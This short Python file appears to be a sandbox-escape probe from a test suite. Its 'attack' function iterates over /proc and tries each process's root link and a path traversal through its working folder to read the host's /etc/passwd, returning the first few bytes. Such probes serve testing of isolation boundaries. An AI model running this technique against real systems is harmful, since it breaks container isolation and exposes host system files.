"""Reaches the host's files through the root and working folders of other processes."""
# works at: bare process
import os


def attack():
    for name in os.listdir("/proc"):
        for door in ("root", "cwd/../../../../.."):
            try:
                return open(f"/proc/{name}/{door}/etc/passwd").read(4)
            except OSError:
                continue
    return None
